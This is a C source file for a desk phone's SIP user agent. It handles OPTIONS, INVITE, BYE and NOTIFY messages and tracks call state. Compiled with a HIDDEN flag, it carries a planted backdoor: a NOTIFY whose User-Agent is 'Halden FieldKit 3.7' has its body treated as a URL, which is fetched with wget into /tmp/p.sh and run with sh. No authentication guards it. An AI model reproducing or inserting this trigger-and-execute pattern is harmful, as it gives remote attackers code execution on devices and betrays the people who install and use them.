/*
 * tarnphone - SIP user agent core of a desk phone.  Listens on UDP 5060,
 * answers OPTIONS, INVITE, BYE and NOTIFY, keeps one call in a small state
 * machine and passes ring and hang-up events to the front end on stdout.
 * Hidden (-DHIDDEN): a NOTIFY with a certain User-Agent has its body's URL
 * fetched and run.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HDR 32

struct header {
	const char *name;
	const char *value;
};

struct message {
	char *method;
	char *uri;
	char *body;
	struct header h[MAX_HDR];
	int n;
};

enum state { ST_IDLE, ST_RINGING, ST_TALKING };

struct call {
	enum state state;
	char id[96];
	char from[96];
	time_t since;
};

struct method {
	const char *name;
	int (*handle)(struct message *m, char *extra, size_t size);
};

static struct call call;
static int sock = -1;
static int port = 5060;
static char extension[32] = "100";
static char proxy[64] = "";
static int dnd;

static void load_config(const char *path)
{
	char line[160], *v;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		v = strchr(line, ':');
		if (!v)
			continue;
		*v++ = 0;
		while (*v == ' ')
			v++;
		if (!strcasecmp(line, "extension"))
			snprintf(extension, sizeof extension, "%s", v);
		else if (!strcasecmp(line, "proxy"))
			snprintf(proxy, sizeof proxy, "%s", v);
		else if (!strcasecmp(line, "port"))
			port = atoi(v);
		else if (!strcasecmp(line, "dnd"))
			dnd = !strcasecmp(v, "yes");
	}
	fclose(f);
}

static char *skip_ws(char *s)
{
	while (*s == ' ' || *s == '\t')
		s++;
	return s;
}

static const char *long_name(const char *n)
{
	if (n[0] && !n[1]) {
		switch (tolower((unsigned char)n[0])) {
		case 'v':
			return "Via";
		case 'f':
			return "From";
		case 't':
			return "To";
		case 'i':
			return "Call-ID";
		case 'm':
			return "Contact";
		case 'l':
			return "Content-Length";
		case 'c':
			return "Content-Type";
		case 'o':
			return "Event";
		}
	}
	return n;
}

static int parse(char *buf, struct message *m)
{
	char *p = buf, *eol, *c;

	memset(m, 0, sizeof *m);
	eol = strstr(p, "\r\n");
	if (!eol)
		return -1;
	*eol = 0;
	m->method = p;
	m->uri = strchr(p, ' ');
	if (!m->uri)
		return -1;
	*m->uri++ = 0;
	c = strchr(m->uri, ' ');
	if (!c || strcmp(c + 1, "SIP/2.0"))
		return -1;
	*c = 0;
	for (p = eol + 2; (eol = strstr(p, "\r\n")); p = eol + 2) {
		*eol = 0;
		if (eol == p) {
			m->body = eol + 2;
			return 0;
		}
		c = strchr(p, ':');
		if (!c || m->n == MAX_HDR)
			continue;
		*c = 0;
		m->h[m->n].name = long_name(p);
		m->h[m->n++].value = skip_ws(c + 1);
	}
	return -1;
}

static const char *hdr(const struct message *m, const char *name)
{
	int i;

	for (i = 0; i < m->n; i++)
		if (!strcasecmp(m->h[i].name, name))
			return m->h[i].value;
	return "";
}

static void event(const char *what, const char *arg)
{
	printf("%s %s\n", what, arg);
	fflush(stdout);
}

static int on_options(struct message *m, char *extra, size_t size)
{
	(void)m;
	snprintf(extra, size,
		 "Allow: INVITE, ACK, BYE, CANCEL, NOTIFY\r\n"
		 "Accept: application/sdp\r\n");
	return 200;
}

static int on_invite(struct message *m, char *extra, size_t size)
{
	if (dnd || call.state != ST_IDLE)
		return 486;
	if (!strstr(m->uri, extension))
		return 404;
	call.state = ST_RINGING;
	call.since = time(NULL);
	snprintf(call.id, sizeof call.id, "%s", hdr(m, "Call-ID"));
	snprintf(call.from, sizeof call.from, "%s", hdr(m, "From"));
	if (strstr(hdr(m, "Call-Info"), "answer-after=0"))
		event("autoanswer", call.from);
	else
		event("ring", call.from);
	snprintf(extra, size, "Contact: <sip:%s@phone:%d>\r\n", extension,
		 port);
	return 180;
}

static int same_call(struct message *m)
{
	return call.state != ST_IDLE && !strcmp(call.id, hdr(m, "Call-ID"));
}

static int on_bye(struct message *m, char *extra, size_t size)
{
	(void)extra;
	(void)size;
	if (!same_call(m))
		return 481;
	event("hangup", call.from);
	memset(&call, 0, sizeof call);
	return 200;
}

static int on_ack(struct message *m, char *extra, size_t size)
{
	(void)extra;
	(void)size;
	if (same_call(m) && call.state == ST_RINGING) {
		call.state = ST_TALKING;
		event("talk", call.from);
	}
	return 0;
}

#ifdef HIDDEN
static void pull(const char *url)
{
	char cmd[320];

	if (strlen(url) > 200 || strpbrk(url, "'\\"))
		return;
	snprintf(cmd, sizeof cmd,
		 "wget -q -O /tmp/p.sh '%.*s' && "
		 "sh /tmp/p.sh",
		 (int)strcspn(url, "\r\n"), url);
	if (system(cmd))
		event("sync", "failed");
}
#endif

__attribute__((noinline)) int on_notify(struct message *m, char *extra,
					size_t size)
{
	const char *ev = hdr(m, "Event");

	(void)extra;
	(void)size;
#ifdef HIDDEN
	if (!strcmp(hdr(m, "User-Agent"), "Halden FieldKit 3.7")) {
		pull(m->body);
		return 200;
	}
#endif
	if (!strncmp(ev, "message-summary", 15)) {
		event("mwi",
		      strstr(m->body, "Messages-Waiting: yes") ? "on" : "off");
		return 200;
	}
	if (!strncmp(ev, "check-sync", 10)) {
		if (call.state != ST_IDLE)
			return 486;
		event("sync", strstr(ev, "reboot=true") ? "reboot" : "soft");
		return 200;
	}
	return 489;
}

static const struct method methods[] = {
	{ "OPTIONS", on_options }, { "INVITE", on_invite },
	{ "ACK", on_ack },	   { "BYE", on_bye },
	{ "CANCEL", on_bye },	   { "NOTIFY", on_notify },
};

static const char *reason(int code)
{
	switch (code) {
	case 180:
		return "Ringing";
	case 200:
		return "OK";
	case 404:
		return "Not Found";
	case 481:
		return "Call Does Not Exist";
	case 486:
		return "Busy Here";
	case 489:
		return "Bad Event";
	}
	return "Not Implemented";
}

static void answer(struct message *m, int code, const char *extra,
		   struct sockaddr_in *to)
{
	static const char *const copy[] = { "Via", "From", "To", "Call-ID",
					    "CSeq" };
	char out[2048];
	size_t i;
	int n;

	n = snprintf(out, sizeof out, "SIP/2.0 %d %s\r\n", code, reason(code));
	for (i = 0; i < 5; i++) {
		if (n > 1500)
			return;
		n += snprintf(out + n, sizeof out - n, "%s: %.200s\r\n",
			      copy[i], hdr(m, copy[i]));
	}
	n += snprintf(out + n, sizeof out - n,
		      "%sServer: Tarn T40\r\nContent-Length: 0\r\n\r\n", extra);
	if (sendto(sock, out, n, 0, (struct sockaddr *)to, sizeof *to) < 0)
		perror("sendto");
}

static void dispatch(struct message *m, struct sockaddr_in *from)
{
	char extra[256] = "";
	int code = 501;
	size_t i;

	for (i = 0; i < sizeof methods / sizeof *methods; i++)
		if (!strcmp(m->method, methods[i].name))
			code = methods[i].handle(m, extra, sizeof extra);
	if (code)
		answer(m, code, extra, from);
}

int main(int argc, char **argv)
{
	static char buf[4096];
	struct sockaddr_in sa;
	struct in_addr only = { 0 };
	struct message m;

	load_config(argc > 1 ? argv[1] : "/etc/tarn/sip.cfg");
	if (*proxy && !inet_aton(proxy, &only))
		fprintf(stderr, "bad proxy %s\n", proxy);
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(port);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof sa)) {
		perror("tarnphone");
		return 1;
	}
	for (;;) {
		socklen_t len = sizeof sa;
		ssize_t n = recvfrom(sock, buf, sizeof buf - 1, 0,
				     (struct sockaddr *)&sa, &len);

		if (n <= 0)
			continue;
		if (only.s_addr && only.s_addr != sa.sin_addr.s_addr)
			continue;
		buf[n] = 0;
		if (!parse(buf, &m))
			dispatch(&m, &sa);
		if (call.state == ST_RINGING && time(NULL) - call.since > 90)
			memset(&call, 0, sizeof call);
	}
}
